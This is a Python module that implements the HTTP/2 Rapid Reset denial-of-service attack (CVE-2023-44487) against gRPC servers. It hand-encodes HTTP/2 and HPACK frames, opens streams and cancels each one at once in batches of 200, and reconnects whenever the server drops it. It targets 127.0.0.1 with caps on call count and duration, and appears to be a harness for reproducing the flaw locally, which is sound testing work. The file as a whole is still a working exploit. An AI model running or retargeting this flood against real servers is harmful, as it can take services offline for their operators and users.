"""Opens gRPC calls and resets each at once, over HTTP/2 as it is on the wire (CVE-2023-44487)."""

import socket
import struct
import time
from collections.abc import Iterator

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _GOAWAY = 1, 3, 4, 7
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_MAX_STREAM = 2**31 - 1
_BATCH = 200  # streams that are sent together
_CLOSED = (ConnectionResetError, BrokenPipeError, ConnectionRefusedError, TimeoutError)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(value: str) -> bytes:
    return bytes([len(value)]) + value.encode()


def _head(path: str) -> bytes:
    """Returns the head of a call in HPACK: two indexed fields, and literals that are not indexed."""
    named = [(b"\x04", path), (b"\x01", "localhost"), (b"\x0f\x10", "application/grpc")]
    fields = b"".join(name + _literal(value) for name, value in named)
    return b"\x83\x86" + fields + b"\x00" + _literal("te") + _literal("trailers")


def _streams(path: str) -> Iterator[bytes]:
    head = _head(path)
    for stream in range(1, _MAX_STREAM, 2):
        yield _frame(_HEADERS, _END_HEADERS, stream, head) + _frame(_RST_STREAM, 0, stream, _CANCEL)


def flood(port: int, path: str, *, num_calls: int, seconds: float) -> int:
    """Sends so many calls at most, for so long at most; connects again when it is ended. Returns how many."""
    sent, end = 0, time.monotonic() + seconds
    while sent < num_calls and time.monotonic() < end:
        try:
            sent += _connection(port, path, num_calls - sent, end)
        except _CLOSED:
            continue
    return sent


def _connection(port: int, path: str, num_calls: int, end: float) -> int:
    sent, streams = 0, _streams(path)
    with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
        while sent < num_calls and time.monotonic() < end:
            batch = [
                content for _, content in zip(range(min(_BATCH, num_calls - sent)), streams, strict=False)
            ]
            connection.sendall(b"".join(batch))
            sent += len(batch)
            _discard(connection)
    return sent


def _discard(connection: socket.socket) -> None:
    """Reads what the server says, without waiting for it."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
        raise ConnectionResetError
    except BlockingIOError:
        connection.settimeout(5)
